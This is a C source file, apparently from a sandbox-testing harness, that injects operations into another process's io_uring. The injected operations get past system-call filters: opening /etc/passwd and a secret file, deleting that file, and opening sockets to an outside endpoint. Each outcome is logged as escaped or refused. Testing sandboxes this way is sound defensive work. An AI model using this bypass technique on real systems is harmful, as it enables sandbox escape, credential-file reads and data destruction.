/* SPDX-License-Identifier: Apache-2.0 */
/*
 * attacker_ring.c - what a filter of system calls does not see: operations that are handed to an io_uring that the process
 * has already. The kernel carries them out as this process. io_uring_setup(2), io_uring_enter(2).
 *
 * An entry is written where the process has its ring mapped, and the puppet tells the kernel of it. The process's own
 * library counts entries in memory of its own and does not know of this one, so the ring is of no use afterwards. It is
 * for the loop's thread, which alone uses the ring: while another is stopped, the loop would find results there that it
 * does not expect.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <stdio.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <unistd.h>

#include "attacker.h"

struct ring { /* of the process; places in its memory */
    int fd;
    u64 ring, entries;
    struct io_sqring_offsets sq;
    struct io_cqring_offsets cq;
};

/* The offsets are those of a ring of the same size, made here. */
static int find_offsets(const struct attack *a, struct ring *r)
{
    struct io_uring_params p;
    u32 sq = 0, cq = 0;

    memset(&p, 0, sizeof p);
    int fd = (int)syscall(SYS_io_uring_setup, 2, &p);
    if (fd < 0)
        return -errno;
    close(fd);
    if (puppet_read(a->puppet, r->ring + p.sq_off.ring_entries, &sq, 4) ||
        puppet_read(a->puppet, r->ring + p.cq_off.ring_entries, &cq, 4))
        return -EFAULT;
    memset(&p, 0, sizeof p);
    p.flags = IORING_SETUP_CQSIZE;
    p.cq_entries = cq;
    fd = (int)syscall(SYS_io_uring_setup, sq, &p);
    if (fd < 0)
        return -errno;
    close(fd);
    r->sq = p.sq_off;
    r->cq = p.cq_off;
    return 0;
}

static int find_ring(const struct attack *a, struct ring *r)
{
    char path[40], line[512];
    unsigned long from, offset;

    memset(r, 0, sizeof *r);
    r->fd = own_descriptor(a, "anon_inode:[io_uring]", 0, NULL);
    snprintf(path, sizeof path, "/proc/%d/maps", a->puppet->pid);
    FILE *f = r->fd < 0 ? NULL : fopen(path, "re");
    /* The first that was made is the last in this list. */
    while (f && fgets(line, sizeof line, f)) {
        if (!strstr(line, "[io_uring]") || sscanf(line, "%lx-%*x %*s %lx", &from, &offset) != 2)
            continue;
        if (offset == IORING_OFF_SQ_RING)
            r->ring = from;
        else if (offset == IORING_OFF_SQES)
            r->entries = from;
    }
    if (f)
        fclose(f);
    return r->ring && r->entries ? find_offsets(a, r) : -ENOENT;
}

static u32 get(const struct attack *a, u64 at)
{
    u32 v = 0;

    if (puppet_read(a->puppet, at, &v, sizeof v))
        return 0;
    return v;
}

/* The result of one operation; -EAGAIN: the kernel did not take it, or did not finish it. */
static struct outcome submit(struct attack *a, const struct ring *r, const struct io_uring_sqe *e)
{
    struct puppet *p = a->puppet;
    const u32 mask = get(a, r->ring + r->sq.ring_mask), tail = get(a, r->ring + r->sq.tail), index = tail & mask;
    const u32 before = get(a, r->ring + r->cq.tail), next = tail + 1;
    const u32 at = before & get(a, r->ring + r->cq.ring_mask);
    struct io_uring_cqe done = { 0 };

    if (puppet_write(p, r->entries + index * sizeof *e, e, sizeof *e) ||
        puppet_write(p, r->ring + r->sq.array + index * 4, &index, 4) || puppet_write(p, r->ring + r->sq.tail, &next, 4))
        return (struct outcome){ .result = -EAGAIN };
    struct outcome o = CALL(p, SYS_io_uring_enter, (u64)r->fd, 1, 0, IORING_ENTER_GETEVENTS, 0, 0);
    if (o.result < 0)
        return o;
    for (u32 i = 0; i < 100 && get(a, r->ring + r->cq.tail) == before; i++) {
        usleep(1000);
        CALL(p, SYS_io_uring_enter, (u64)r->fd, 0, 0, IORING_ENTER_GETEVENTS, 0, 0);
    }
    const u32 after = get(a, r->ring + r->cq.tail);
    o.result = -EAGAIN;
    if (after != before && !puppet_read(p, r->ring + r->cq.cqes + at * sizeof done, &done, sizeof done)) {
        o.result = done.res;
        if (puppet_write(p, r->ring + r->cq.head, &after, 4))
            p->dead = true;
    }
    return o;
}

static void try_entry(struct attack *a, const struct ring *r, const char *name, const struct io_uring_sqe *e)
{
    const struct outcome o = submit(a, r, e);

    tried_call(a, name, o, ESCAPED, NULL);
    puppet_forget(a->puppet);
}

void try_ring(struct attack *a)
{
    struct sockaddr_un u = { .sun_family = AF_UNIX };
    struct puppet *p = a->puppet;
    char secret[PATH_MAX];
    struct ring r;

    const int found = find_ring(a, &r);
    if (found) {
        tried(a, "an io_uring", REFUSED, "there is none");
        return;
    }
    snprintf(secret, sizeof secret, "%s/secret", a->folder);
    snprintf(u.sun_path, sizeof u.sun_path, "%s", outside_socket(a->outside, false));
    struct io_uring_sqe e = { .opcode = IORING_OP_READ, .fd = -1 };
    const struct outcome works = submit(a, &r, &e);
    if (works.result != -EBADF) { /* it does not come to the kernel, and then the rest says nothing */
        tried(a, "an io_uring", REFUSED, say(works));
        return;
    }
    tried(a, "an io_uring takes an operation", ALLOWED,
          may_call(a->kind, SYS_io_uring_enter) ? "disks" : "its descriptor is the process's");
    e = (struct io_uring_sqe){
        .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = puppet_string(p, secret), .open_flags = O_RDONLY
    };
    try_entry(a, &r, "io_uring: open secret", &e);
    e = (struct io_uring_sqe){
        .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = puppet_string(p, "/etc/passwd"), .open_flags = O_RDONLY
    };
    try_entry(a, &r, "io_uring: open /etc/passwd", &e);
    e = (struct io_uring_sqe){
        .opcode = IORING_OP_OPENAT, .fd = AT_FDCWD, .addr = puppet_string(p, "/"), .open_flags = O_RDONLY
    };
    try_entry(a, &r, "io_uring: open /", &e);
    e = (struct io_uring_sqe){ .opcode = IORING_OP_UNLINKAT, .fd = AT_FDCWD, .addr = puppet_string(p, secret) };
    try_entry(a, &r, "io_uring: unlink", &e);
    e = (struct io_uring_sqe){ .opcode = IORING_OP_SOCKET, .fd = AF_UNIX, .off = SOCK_STREAM };
    const struct outcome s = submit(a, &r, &e);
    tried_call(a, "io_uring: socket", s, ESCAPED, NULL);
    if (s.result >= 0) {
        e = (struct io_uring_sqe){
            .opcode = IORING_OP_CONNECT, .fd = (int)s.result, .addr = puppet_put(p, &u, sizeof u), .off = sizeof u
        };
        try_entry(a, &r, "io_uring: connect", &e);
    }
    e = (struct io_uring_sqe){ .opcode = IORING_OP_SOCKET, .fd = AF_INET, .off = SOCK_STREAM };
    tried_call(a, "io_uring: socket, TCP", submit(a, &r, &e), ESCAPED, NULL);
}
